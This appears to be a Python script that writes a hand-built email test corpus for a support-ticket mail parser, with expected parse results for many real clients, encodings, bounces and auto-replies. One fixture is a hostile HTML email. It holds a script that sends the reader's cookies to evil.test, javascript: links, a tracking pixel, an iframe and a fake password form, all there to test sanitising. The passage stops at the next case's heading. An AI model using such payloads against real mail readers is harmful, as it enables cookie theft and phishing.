#!/usr/bin/env python3
"""Write the mail corpus: tests/data/mail/NAME.eml and NAME.json.

Every message is written by hand after the shape the named client produces
(header order, separators, transfer encodings, charsets); Python's codecs
only do the encoding (GB2312/GB18030/Big5/ISO-2022-JP bytes, base64,
quoted-printable), so the bytes are exactly what such a client sends.  The
.json beside each message is the expected parse, also written by hand here,
not produced by kefu.  Run from anywhere: python3 tests/data/mail/make_corpus.py
"""
import base64
import json
import os
import quopri
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + width] for i in range(0, len(s), width))


def qp(data):
    """Quoted-printable of text with CRLF line ends (encoded over LF, sent as CRLF)."""
    return quopri.encodestring(data.replace(b"\r\n", b"\n")).decode().replace("\n", "\r\n")


def ew(text, charset="utf-8", enc="B"):
    raw = text.encode(charset)
    if enc == "B":
        return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())
    return "=?%s?Q?%s?=" % (charset, "".join("=%02X" % c if c > 127 or c in b"=?_ " else chr(c) for c in raw))


def crlf(s):
    return s.replace("\r\n", "\n").replace("\n", "\r\n")


def png(w, h, rgb):
    """A valid w x h PNG of one colour (IHDR, IDAT, IEND with real CRCs)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def jpeg_gray8x8():
    """A valid baseline JPEG: 8x8, one grey component, DC difference 0, EOB."""
    dqt = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    sof = b"\xff\xc0\x00\x0b\x08\x00\x08\x00\x08\x01\x01\x11\x00"
    dht_dc = b"\xff\xc4\x00\x14\x00" + b"\x01" + b"\x00" * 15 + b"\x00"
    dht_ac = b"\xff\xc4\x00\x14\x10" + b"\x01" + b"\x00" * 15 + b"\x00"
    sos = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + dqt + sof + dht_dc + dht_ac + sos + b"\x3f" + b"\xff\xd9"


CORPUS = {}


def add(name, raw, expect):
    if isinstance(raw, str):
        raw = crlf(raw).encode("utf-8")
    CORPUS[name] = (raw, expect)


# 1. Outlook (zh-CN) reply: no References, no In-Reply-To, GB2312 base64,
#    multipart/alternative, the 发件人/发送时间 block under a line of underscores.
outlook_text = ("您好，\r\n\r\n包裹到现在还没有收到，物流三天没有更新了，请帮忙查一下。\r\n\r\n张三\r\n\r\n"
                "________________________________\r\n"
                "发件人: 客服中心 <support@kefu.test>\r\n"
                "发送时间: 2026年12月1日 10:02\r\n"
                "收件人: 张三 <zhangsan@customer.test>\r\n"
                "主题: 订单延迟 [#000123]\r\n\r\n"
                "您好，您的订单已经发货。\r\n")
outlook_html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=gb2312\"></head>"
                "<body><div>您好，</div><div>包裹到现在还没有收到，物流三天没有更新了，请帮忙查一下。</div>"
                "<div>张三</div><hr><div><b>发件人:</b> 客服中心</div></body></html>")
add("outlook_zh_reply", """Received: from mail.customer.test (mail.customer.test [192.0.2.10])
	by mx.kefu.test (Postfix) with ESMTPS id 4AB12C0
	for <support+k7m2q9x4@kefu.test>; Wed,  2 Dec 2026 09:15:03 +0800 (CST)
From: %s <zhangsan@customer.test>
To: %s <support+k7m2q9x4@kefu.test>
Subject: %s
Thread-Topic: %s
Thread-Index: AQHZxYz1m5dQ0pXh3kGk2w==
Date: Wed, 2 Dec 2026 01:15:00 +0000
Message-ID: <TYCPR01MB8424A1B2C3D4E5F6@TYCPR01MB8424.jpnprd01.prod.outlook.com>
Accept-Language: zh-CN, en-US
Content-Language: zh-CN
MIME-Version: 1.0
Content-Type: multipart/alternative;
	boundary="_000_TYCPR01MB8424A1B2C3D4E5F6_"

--_000_TYCPR01MB8424A1B2C3D4E5F6_
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64

%s

--_000_TYCPR01MB8424A1B2C3D4E5F6_
Content-Type: text/html; charset="gb2312"
Content-Transfer-Encoding: base64

%s

--_000_TYCPR01MB8424A1B2C3D4E5F6_--
""" % (ew("张三", "gb2312"), ew("客服中心", "gb2312"), ew("答复: 订单延迟 [#000123]", "gb2312"), ew("订单延迟 [#000123]", "gb2312"),
       b64(outlook_text.encode("gb2312")), b64(outlook_html.encode("gb2312"))), {
    "from": {"name": "张三", "address": "zhangsan@customer.test"},
    "to": [{"name": "客服中心", "address": "support+k7m2q9x4@kefu.test"}],
    "cc": [],
    "subject": "答复: 订单延迟 [#000123]",
    "message_id": "TYCPR01MB8424A1B2C3D4E5F6@TYCPR01MB8424.jpnprd01.prod.outlook.com",
    "in_reply_to": None,
    "references": [],
    "date": 1796174100,
    "text_visible": "您好，\n\n包裹到现在还没有收到，物流三天没有更新了，请帮忙查一下。\n\n张三",
    "text_contains": ["发件人: 客服中心", "您的订单已经发货"],
    "html_contains": ["<div>张三</div>", "<hr>"],
    "attachments": [],
    "auto_flags": [],
    "is_forward": False,
})

# 2. Foxmail reply: GB18030 base64, In-Reply-To but no References, the
#    "------------------ Original ------------------" separator.
fox_text = ("已经收到退款了，谢谢！\r\n\r\n"
            "------------------&nbsp;Original&nbsp;------------------\r\n"
            "From: &nbsp;\"客服中心\"<support@kefu.test>;\r\n"
            "Date: &nbsp;Tue, Dec 1, 2026 05:30 PM\r\n"
            "To: &nbsp;\"李四\"<lisi@customer.test>;\r\n"
            "Subject: &nbsp;退款申请 [#000456]\r\n\r\n"
            "您好，退款已经处理。\r\n").replace("&nbsp;", "\u00a0")
add("foxmail_reply", """From: "%s" <LiSi@Customer.test>
To: "%s" <support@kefu.test>
Subject: %s
Mime-Version: 1.0
Content-Type: multipart/alternative;
	boundary="----=_NextPart_6566D2A1_0A1B2C3D_4E5F6A7B"
Content-Transfer-Encoding: 8Bit
Date: Wed, 2 Dec 2026 10:00:12 +0800
X-Priority: 3
Message-ID: <tencent_1A2B3C4D5E6F7A8B9C0D@foxmail.com>
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: Foxmail 7.2.25.375[cn]
In-Reply-To: <kefu-456-9f8e7d6c@kefu.test>

This is a multi-part message in MIME format.

------=_NextPart_6566D2A1_0A1B2C3D_4E5F6A7B
Content-Type: text/plain;
	charset="gb18030"
Content-Transfer-Encoding: base64

%s

------=_NextPart_6566D2A1_0A1B2C3D_4E5F6A7B
Content-Type: text/html;
	charset="gb18030"
Content-Transfer-Encoding: base64

%s

------=_NextPart_6566D2A1_0A1B2C3D_4E5F6A7B--
""" % (ew("李四", "gb18030"), ew("客服中心", "gb18030"), ew("Re：退款申请 [#000456]", "gb18030"), b64(fox_text.encode("gb18030")),
       b64("<div>已经收到退款了，谢谢！</div><div><br></div><div style=\"font: Verdana\">------------------&nbsp;Original&nbsp;------------------</div>".encode("gb18030"))), {
    "from": {"name": "李四", "address": "lisi@customer.test"},
    "to": [{"name": "客服中心", "address": "support@kefu.test"}],
    "subject": "Re：退款申请 [#000456]",
    "message_id": "tencent_1A2B3C4D5E6F7A8B9C0D@foxmail.com",
    "in_reply_to": "kefu-456-9f8e7d6c@kefu.test",
    "references": [],
    "text_visible": "已经收到退款了，谢谢！",
    "text_contains": ["From: \u00a0\"客服中心\"", "退款已经处理"],
    "attachments": [],
    "auto_flags": [],
    "is_forward": False,
})

# 3. QQ Mail reply: GB18030 quoted-printable, no In-Reply-To or References,
#    the "------------------ 原始邮件 ------------------" block.
qq_text = ("好的，那我等新的寄过来。地址不变。\r\n\r\n\r\n"
           "------------------ 原始邮件 ------------------\r\n"
           "发件人: \"客服中心\" <support@kefu.test>;\r\n"
           "发送时间: 2026年12月1日(星期二) 晚上8:12\r\n"
           "收件人: \"王五\"<123456789@qq.test>;\r\n"
           "主题: 换货 [#000789]\r\n\r\n\r\n"
           "您好，我们会给您补发一件。\r\n")
add("qq_reply", """Return-Path: <123456789@qq.test>
X-QQ-FEAT: kQpl2Vyp0xY=
X-QQ-SSF: 00000000000000F0
X-QQ-XMAILINFO: MmQ2NGFlNzI=
X-QQ-mid: webmail812t1764601234t1234567
From: "=?gb18030?B?zfXO5Q==?=" <123456789@qq.test>
To: "%s" <support@kefu.test>
Subject: %s
Mime-Version: 1.0
Content-Type: multipart/alternative;
	boundary="----=_NextPart_6569C6E2_0F1E2D3C_1A2B3C4D"
Content-Transfer-Encoding: 8Bit
Date: Wed, 2 Dec 2026 08:05:22 +0800
X-Priority: 3
Message-ID: <tencent_9F8E7D6C5B4A39281706@qq.com>
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x
X-QQ-Mailer: QQMail 2.x

This is a multi-part message in MIME format.

------=_NextPart_6569C6E2_0F1E2D3C_1A2B3C4D
Content-Type: text/plain;
	charset="gb18030"
Content-Transfer-Encoding: quoted-printable

%s
------=_NextPart_6569C6E2_0F1E2D3C_1A2B3C4D
Content-Type: text/html;
	charset="gb18030"
Content-Transfer-Encoding: quoted-printable

%s
------=_NextPart_6569C6E2_0F1E2D3C_1A2B3C4D--
""" % (ew("客服中心", "gb18030"), ew("回复：换货 [#000789]", "gb18030"), qp(qq_text.encode("gb18030")),
       qp("<meta http-equiv=\"Content-Type\" content=\"text/html; charset=GB18030\"><div>好的，那我等新的寄过来。地址不变。</div>".encode("gb18030"))), {
    "from": {"name": "王五", "address": "123456789@qq.test"},
    "subject": "回复：换货 [#000789]",
    "message_id": "tencent_9F8E7D6C5B4A39281706@qq.com",
    "in_reply_to": None,
    "references": [],
    "text_visible": "好的，那我等新的寄过来。地址不变。",
    "text_contains": ["原始邮件", "我们会给您补发一件"],
    "html_contains": ["<div>好的，那我等新的寄过来。地址不变。</div>"],
    "attachments": [],
    "auto_flags": [],
    "is_forward": False,
})

# 4. Gmail (en) reply: multipart/alternative, UTF-8 quoted-printable,
#    References chain, "On … wrote:" wrapped by Gmail at 78 columns.
gm_text = ("Hi,\r\n\r\nThe replacement arrived today, but the box was damaged again. Can you check\r\n"
           "how it is packed?\r\n\r\nThanks,\r\nEmily\r\n\r\n"
           "On Tue, Dec 1, 2026 at 6:40 PM Customer Support <\r\nsupport+ab12cd34@kefu.test> wrote:\r\n\r\n"
           "> Hello Emily,\r\n>\r\n> We have sent a replacement. Tracking: SF1234567890.\r\n>\r\n")
add("gmail_en_reply", """MIME-Version: 1.0
References: <kefu-77-a1b2c3@kefu.test> <CAB1x2y3z4=Qq@mail.gmail.com>
 <kefu-78-d4e5f6@kefu.test>
In-Reply-To: <kefu-78-d4e5f6@kefu.test>
From: Emily Carter <emily.carter@gmail.test>
Date: Wed, 2 Dec 2026 09:12:45 +0000
Message-ID: <CAF=xyz123-ABC_def456+gh@mail.gmail.com>
Subject: Re: Damaged parcel [#000077]
To: Customer Support <support+ab12cd34@kefu.test>
Cc: "Tom (warehouse)" <Tom@Partner.test>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

%s
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

%s
--000000000000a1b2c3d4e5f60718--
""" % (qp(gm_text.encode()),
       qp(b'<div dir="ltr">Hi,<div><br></div><div>The replacement arrived today, but the box was damaged again.</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Dec 1, 2026 at 6:40 PM Customer Support &lt;<a href="mailto:support+ab12cd34@kefu.test">support+ab12cd34@kefu.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Hello Emily,</blockquote></div>')), {
    "from": {"name": "Emily Carter", "address": "emily.carter@gmail.test"},
    "to": [{"name": "Customer Support", "address": "support+ab12cd34@kefu.test"}],
    "cc": [{"name": "Tom (warehouse)", "address": "tom@partner.test"}],
    "subject": "Re: Damaged parcel [#000077]",
    "message_id": "CAF=xyz123-ABC_def456+gh@mail.gmail.com",
    "in_reply_to": "kefu-78-d4e5f6@kefu.test",
    "references": ["kefu-77-a1b2c3@kefu.test", "CAB1x2y3z4=Qq@mail.gmail.com", "kefu-78-d4e5f6@kefu.test"],
    "date": 1796202765,
    "text_visible": "Hi,\n\nThe replacement arrived today, but the box was damaged again. Can you check\nhow it is packed?\n\nThanks,\nEmily",
    "text_contains": ["> We have sent a replacement."],
    "html_contains": ["<blockquote>Hello Emily,</blockquote>", "href=\"mailto:support+ab12cd34@kefu.test\""],
    "html_absent": ["style=", "class="],
    "attachments": [],
    "auto_flags": [],
    "is_forward": False,
})

# 5. iPhone (iOS Mail, zh) reply: UTF-8 quoted-printable, 发自我的iPhone,
#    the quoted 在 … 写道： header.
ios_text = ("已经签收了，谢谢\r\n\r\n发自我的iPhone\r\n\r\n"
            "> 在 2026年12月1日，下午3:20，客服中心 <support@kefu.test> 写道：\r\n> \r\n"
            "> ﻿您好，快递今天会送到。\r\n")
add("iphone_reply", """Content-Type: text/plain;
	charset=utf-8
Content-Transfer-Encoding: quoted-printable
From: =?utf-8?B?6LW15YWt?= <zhaoliu@icloud.test>
Mime-Version: 1.0 (1.0)
Date: Tue, 1 Dec 2026 16:01:09 +0800
Subject: =?utf-8?Q?Re:_=E5=BF=AB=E9=80=92=E6=9F=A5=E8=AF=A2_[#001001]?=
Message-Id: <A1B2C3D4-E5F6-4789-ABCD-0123456789AB@icloud.test>
References: <kefu-1001-5a6b7c@kefu.test>
In-Reply-To: <kefu-1001-5a6b7c@kefu.test>
To: =?utf-8?B?5a6i5pyN5Lit5b+D?= <support@kefu.test>
X-Mailer: iPhone Mail (21B101)

%s""" % qp(ios_text.encode()), {
    "from": {"name": "赵六", "address": "zhaoliu@icloud.test"},
    "to": [{"name": "客服中心", "address": "support@kefu.test"}],
    "subject": "Re: 快递查询 [#001001]",
    "message_id": "A1B2C3D4-E5F6-4789-ABCD-0123456789AB@icloud.test",
    "in_reply_to": "kefu-1001-5a6b7c@kefu.test",
    "references": ["kefu-1001-5a6b7c@kefu.test"],
    "date": 1796112069,
    "text_visible": "已经签收了，谢谢",
    "text_contains": ["发自我的iPhone", "写道："],
    "html": None,
    "attachments": [],
    "auto_flags": [],
    "is_forward": False,
})

# 6. Big5 body (Taiwan, Outlook Express style), Big5 encoded-word subject.
big5_text = "您好：\r\n\r\n我上週訂購的商品到現在還沒有收到，訂單編號 TW20261128-0042，請協助查詢物流狀態。\r\n\r\n陳小姐\r\n"
add("big5_body", """From: =?big5?B?s6+kcKlq?= <chen@customer.test>
To: <support@kefu.test>
Subject: %s
Date: Thu, 3 Dec 2026 14:20:00 +0800
Message-ID: <000a01db1234$5678abcd$9abcdef0@chenpc>
MIME-Version: 1.0
Content-Type: text/plain;
	charset="big5"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook Express 6.00.2900.5931

""" % ew("訂單查詢", "big5"), None)
CORPUS["big5_body"] = (CORPUS["big5_body"][0] + big5_text.encode("big5"), {
    "from": {"name": "陳小姐", "address": "chen@customer.test"},
    "to": [{"name": "", "address": "support@kefu.test"}],
    "subject": "訂單查詢",
    "message_id": "000a01db1234$5678abcd$9abcdef0@chenpc",
    "text_visible": "您好：\n\n我上週訂購的商品到現在還沒有收到，訂單編號 TW20261128-0042，請協助查詢物流狀態。\n\n陳小姐",
    "attachments": [],
    "auto_flags": [],
    "is_forward": False,
})

# 7. ISO-2022-JP (a Japanese customer; 7bit, JIS escapes).
jp_text = "お世話になっております。\r\n注文した商品がまだ届いていません。\r\nご確認をお願いいたします。\r\n\r\n山田\r\n"
add("iso2022jp", ("""From: %s <yamada@customer.test>
To: support@kefu.test
Subject: %s
Date: Thu, 3 Dec 2026 09:00:00 +0900
Message-ID: <20261203090000.1234@customer.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

""" % (ew("山田太郎", "iso-2022-jp"), ew("注文について", "iso-2022-jp"))).replace("\n", "\r\n").encode() + jp_text.encode("iso-2022-jp"), {
    "from": {"name": "山田太郎", "address": "yamada@customer.test"},
    "subject": "注文について",
    "text_visible": "お世話になっております。\n注文した商品がまだ届いていません。\nご確認をお願いいたします。\n\n山田",
    "attachments": [],
    "auto_flags": [],
})

# 8. Broken encoded words: a UTF-8 word split inside 你 (first word ends with
#    two of its three bytes), raw 8-bit GBK in Subject and in the From name,
#    a charset-less word in Cc, and a body with no charset at all (GBK).
u = "你好客服".encode()
split = "=?UTF-8?B?%s?= =?UTF-8?B?%s?=" % (base64.b64encode(u[:2]).decode(), base64.b64encode(u[2:]).decode())
broken = (b"From: " + "孙七".encode("gbk") + b" <sunqi@customer.test>\r\n"
          b"To: " + split.encode() + b" <support@kefu.test>\r\n"
          b"Cc: =?B?" + base64.b64encode("周八".encode()) + b"?= <zhouba@customer.test>\r\n"
          b"Subject: " + "关于发票的问题".encode("gbk") + b"\r\n"
          b"Date: Fri, 4 Dec 2026 11:11:11 +0800\r\n"
          b"Message-ID: <broken.1@customer.test>\r\n"
          b"MIME-Version: 1.0\r\n"
          b"Content-Type: text/plain\r\n"
          b"Content-Transfer-Encoding: 8bit\r\n\r\n"
          + "请帮我开一张增值税专用发票，抬头和税号见附件。\r\n".encode("gbk"))
CORPUS["broken_words"] = (broken, {
    "from": {"name": "孙七", "address": "sunqi@customer.test"},
    "to": [{"name": "你好客服", "address": "support@kefu.test"}],
    "cc": [{"name": "周八", "address": "zhouba@customer.test"}],
    "subject": "关于发票的问题",
    "text_visible": "请帮我开一张增值税专用发票，抬头和税号见附件。",
    "attachments": [],
    "auto_flags": [],
})

# 9. HTML only, hostile: script, onload, javascript: link, remote tracker,
#    an iframe and a form.
add("html_only_script", """From: "Shop Promotions" <promo@shop.test>
To: support@kefu.test
Subject: Your complaint
Date: Sat, 5 Dec 2026 08:00:00 +0000
Message-ID: <html-only-1@shop.test>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

<!DOCTYPE html>
<html><head><title>x</title><style>body{background:url(javascript:alert(1))}</style>
<script>document.location='https://evil.test/?c='+document.cookie</script></head>
<body onload="alert(1)">
<p>The parcel <b>arrived broken</b>.</p>
<p>See <a href="javascript:alert(2)">my photos</a> and <a href="https://photos.test/album/9">the album</a>.</p>
<img src="https://tracker.test/open.gif?id=9" width="1" height="1">
<iframe src="https://evil.test/"></iframe>
<form action="https://evil.test/login"><input name="password">Log in</form>
<ul><li>Order 4411</li><li>Paid &yen;299</li></ul>
</body></html>
""", {
    "from": {"name": "Shop Promotions", "address": "promo@shop.test"},
    "subject": "Your complaint",
    "text_visible": "The parcel arrived broken.\n\nSee my photos and the album (https://photos.test/album/9).\n\n- Order 4411\n- Paid ¥299",
    "html_contains": ["<b>arrived broken</b>", "href=\"https://photos.test/album/9\""],
    "html_absent": ["script", "onload", "javascript", "tracker.test", "iframe", "<form", "password", "<style"],
    "attachments": [],
    "auto_flags": [],
})

# 10. multipart/related with an inline image referenced by cid (Apple Mail shape).
logo = png(2, 2, (200, 30, 30))
add("related_inline_image", """From: Wu Jiu <wujiu@customer.test>
Content-Type: multipart/alternative;
	boundary="Apple-Mail=_11111111-2222-3333-4444-555555555555"
Mime-Version: 1.0 (Mac OS X Mail 16.0)
Subject: =?utf-8?B?5ZWG5ZOB6aKc6Imy5LiN5a+5?=
Date: Sat, 5 Dec 2026 10:00:00 +0800
Message-Id: <9E1F2A3B-related@customer.test>
To: support@kefu.test

--Apple-Mail=_11111111-2222-3333-4444-555555555555
Content-Transfer-Encoding: base64
Content-Type: text/plain;
	charset=utf-8

%s

--Apple-Mail=_11111111-2222-3333-4444-555555555555
Content-Type: multipart/related;
	type="text/html";
	boundary="Apple-Mail=_66666666-7777-8888-9999-000000000000"

--Apple-Mail=_66666666-7777-8888-9999-000000000000
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
	charset=utf-8

%s
--Apple-Mail=_66666666-7777-8888-9999-000000000000
Content-Transfer-Encoding: base64
Content-Disposition: inline;
	filename=IMG_0001.png
Content-Type: image/png;
	x-unix-mode=0644;
	name="IMG_0001.png"
Content-Id: <F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9>

%s
--Apple-Mail=_66666666-7777-8888-9999-000000000000--

--Apple-Mail=_11111111-2222-3333-4444-555555555555--
""" % (b64("收到的颜色和图片上不一样，见图：\r\n\r\n".encode()),
       qp('<html><body><div>收到的颜色和图片上不一样，见图：</div><img src="cid:F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9" alt="photo"></body></html>'.encode()),
       b64(logo)), {
    "from": {"name": "Wu Jiu", "address": "wujiu@customer.test"},
    "subject": "商品颜色不对",
    "text_visible": "收到的颜色和图片上不一样，见图：",
    "html_contains": ["src=\"cid:F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9\""],
    "attachments": [{"filename": "IMG_0001.png", "content_type": "image/png", "size": len(logo),
                     "content_id": "F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9", "is_inline": True}],
    "auto_flags": [],
})

# 11. A forwarded complaint: the customer forwards (Gmail "Forwarded message")
#     the carrier's mail, adds two photos (JPEG, PNG with an RFC 2231 UTF-8
#     name) and the carrier's original as message/rfc822.
photo1 = jpeg_gray8x8()
photo2 = png(3, 2, (10, 120, 200))
inner = crlf("""From: SF Express <noreply@carrier.test>
To: zheng@customer.test
Subject: =?utf-8?B?5b+r5Lu25byC5bi46YCa55+l?=
Date: Mon, 30 Nov 2026 18:00:00 +0800
Message-ID: <carrier-notice-778899@carrier.test>
Content-Type: text/plain; charset=utf-8

您的快件 SF1234567890 在运输途中破损，请联系寄件方。
""")
fwd_text = ("客服你好，快递公司说包裹破损了，照片在附件里，请尽快处理赔偿。\r\n\r\n"
            "---------- Forwarded message ---------\r\n"
            "From: SF Express <noreply@carrier.test>\r\n"
            "Date: Mon, Nov 30, 2026 at 6:00 PM\r\n"
            "Subject: 快件异常通知\r\n"
            "To: <zheng@customer.test>\r\n\r\n"
            "您的快件 SF1234567890 在运输途中破损，请联系寄件方。\r\n")
add("forward_complaint", """MIME-Version: 1.0
From: Zheng Shi <zheng@customer.test>
Date: Tue, 1 Dec 2026 09:30:00 +0800
Message-ID: <CAFwd-complaint-1@mail.gmail.com>
Subject: Fwd: =?UTF-8?B?5b+r5Lu25byC5bi46YCa55+l?=
To: support@kefu.test
Content-Type: multipart/mixed; boundary="00000000000055aa66bb77cc88dd"

--00000000000055aa66bb77cc88dd
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

%s
--00000000000055aa66bb77cc88dd
Content-Type: image/jpeg; name="IMG_20261130_1801.jpg"
Content-Disposition: attachment; filename="IMG_20261130_1801.jpg"
Content-Transfer-Encoding: base64
X-Attachment-Id: f_lp1

%s
--00000000000055aa66bb77cc88dd
Content-Type: image/png
Content-Disposition: attachment;
 filename*=UTF-8''%%E7%%A0%%B4%%E6%%8D%%9F%%E7%%85%%A7%%E7%%89%%87.png
Content-Transfer-Encoding: base64

%s
--00000000000055aa66bb77cc88dd
Content-Type: message/rfc822
Content-Disposition: attachment

%s
--00000000000055aa66bb77cc88dd--
""" % (b64(fwd_text.encode()), b64(photo1), b64(photo2), inner), {
    "from": {"name": "Zheng Shi", "address": "zheng@customer.test"},
    "subject": "Fwd: 快件异常通知",
    "message_id": "CAFwd-complaint-1@mail.gmail.com",
    "text_visible": "客服你好，快递公司说包裹破损了，照片在附件里，请尽快处理赔偿。\n\n---------- Forwarded message ---------\nFrom: SF Express <noreply@carrier.test>\nDate: Mon, Nov 30, 2026 at 6:00 PM\nSubject: 快件异常通知\nTo: <zheng@customer.test>\n\n您的快件 SF1234567890 在运输途中破损，请联系寄件方。",
    "attachments": [
        {"filename": "IMG_20261130_1801.jpg", "content_type": "image/jpeg", "size": len(photo1), "is_inline": False},
        {"filename": "破损照片.png", "content_type": "image/png", "size": len(photo2), "is_inline": False},
        {"filename": "快件异常通知.eml", "content_type": "message/rfc822", "contains": "carrier-notice-778899@carrier.test"},
    ],
    "auto_flags": [],
    "is_forward": True,
    "bounce": None,
})

# 12. Postfix DSN (RFC 3464) for a reply kefu sent.
add("postfix_dsn", """Return-Path: <>
Delivered-To: bounces@kefu.test
Received: by mx.kefu.test (Postfix)
	id 3F2A1B0; Sat,  5 Dec 2026 12:00:05 +0800 (CST)
Date: Sat,  5 Dec 2026 12:00:05 +0800 (CST)
From: MAILER-DAEMON@mx.kefu.test (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@kefu.test
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="3F2A1B0.1764907205/mx.kefu.test"
Content-Transfer-Encoding: 8bit
Message-Id: <20261205040005.3F2A1B0@mx.kefu.test>

This is a MIME-encapsulated message.

--3F2A1B0.1764907205/mx.kefu.test
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host mx.kefu.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<nobody@customer.test>: host mx.customer.test[192.0.2.25] said: 550 5.1.1
    <nobody@customer.test>: Recipient address rejected: User unknown in virtual
    mailbox table (in reply to RCPT TO command)

--3F2A1B0.1764907205/mx.kefu.test
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.kefu.test
X-Postfix-Queue-ID: 3F2A1B0
X-Postfix-Sender: rfc822; support@kefu.test
Arrival-Date: Sat,  5 Dec 2026 12:00:03 +0800 (CST)

Final-Recipient: rfc822; nobody@customer.test
Original-Recipient: rfc822;nobody@customer.test
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.customer.test
Diagnostic-Code: smtp; 550 5.1.1 <nobody@customer.test>: Recipient address
    rejected: User unknown in virtual mailbox table

--3F2A1B0.1764907205/mx.kefu.test
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers
Content-Transfer-Encoding: 8bit

Return-Path: <support@kefu.test>
From: =?UTF-8?B?5a6i5pyN5Lit5b+D?= <support@kefu.test>
To: nobody@customer.test
Subject: =?UTF-8?B?UmU6IOiuouWNlQ==?= [#000321]
Message-ID: <kefu-321-0a1b2c3d@kefu.test>
Date: Sat, 05 Dec 2026 04:00:00 +0000
Auto-Submitted: auto-replied

--3F2A1B0.1764907205/mx.kefu.test--
""", {
    "from": {"name": "Mail Delivery System", "address": "mailer-daemon@mx.kefu.test"},
    "subject": "Undelivered Mail Returned to Sender",
    "return_path": "",
    "delivered_to": ["bounces@kefu.test"],
    "text_contains": ["could not\nbe delivered"],
    "attachments_count": 2,
    "auto_flags": ["submitted", "null_sender"],
    "bounce": {"recipient": "nobody@customer.test", "action": "failed", "status": "5.1.1",
               "diagnostic": "550 5.1.1 <nobody@customer.test>: Recipient address rejected: User unknown in virtual mailbox table",
               "orig_message_id": "kefu-321-0a1b2c3d@kefu.test"},
})

# 13. qmail plain-text bounce (no multipart/report).
add("qmail_bounce", """Return-Path: <>
From: MAILER-DAEMON@mail.customer.test
To: support@kefu.test
Subject: failure notice
Date: 5 Dec 2026 04:10:00 -0000
Message-ID: <20261205041000.12345.qmail@mail.customer.test>

Hi. This is the qmail-send program at mail.customer.test.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<gone@customer.test>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <support@kefu.test>
Message-ID: <kefu-322-9z8y7x@kefu.test>
From: support@kefu.test
To: gone@customer.test
Subject: Re: order [#000322]
""", {
    "subject": "failure notice",
    "auto_flags": ["null_sender"],
    "bounce": {"recipient": "gone@customer.test", "status": "5.1.1", "action": "",
               "orig_message_id": "kefu-322-9z8y7x@kefu.test"},
})

# 14. An automatic reply with Auto-Submitted (RFC 3834).
add("auto_submitted", """From: Service Robot <robot@partner.test>
To: support@kefu.test
Subject: Re: [#000555] delivery question
Auto-Submitted: auto-replied
Date: Sun, 6 Dec 2026 01:00:00 +0000
Message-ID: <auto-1@partner.test>
In-Reply-To: <kefu-555-aa@kefu.test>
Content-Type: text/plain; charset=us-ascii

We received your message and will answer within 2 working days.
""", {
    "subject": "Re: [#000555] delivery question",
    "in_reply_to": "kefu-555-aa@kefu.test",
    "auto_flags": ["submitted"],
    "text_visible": "We received your message and will answer within 2 working days.",
})

# 15. Out of office: Exchange's X-Auto-Response-Suppress and a 自动回复 subject,
#     plus X-Autoreply (no Auto-Submitted).
add("out_of_office", """From: =?utf-8?B?5p2O5Zub?= <lisi@customer.test>
To: =?utf-8?B?5a6i5pyN5Lit5b+D?= <support@kefu.test>
Subject: =?utf-8?B?6Ieq5Yqo5Zue5aSNOiDorqLljZXlu7bov58=?=
X-Autoreply: yes
X-Auto-Response-Suppress: All
Date: Sun, 6 Dec 2026 02:00:00 +0800
Message-ID: <ooo-1@customer.test>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

%s
""" % b64("我12月10日前休假，期间不能及时回复邮件。\r\n".encode()), {
    "from": {"name": "李四", "address": "lisi@customer.test"},
    "subject": "自动回复: 订单延迟",
    "auto_flags": ["reply"],
    "text_visible": "我12月10日前休假，期间不能及时回复邮件。",
})

# 16. Mailing-list mail: Precedence: list, List-Id, List-Unsubscribe.
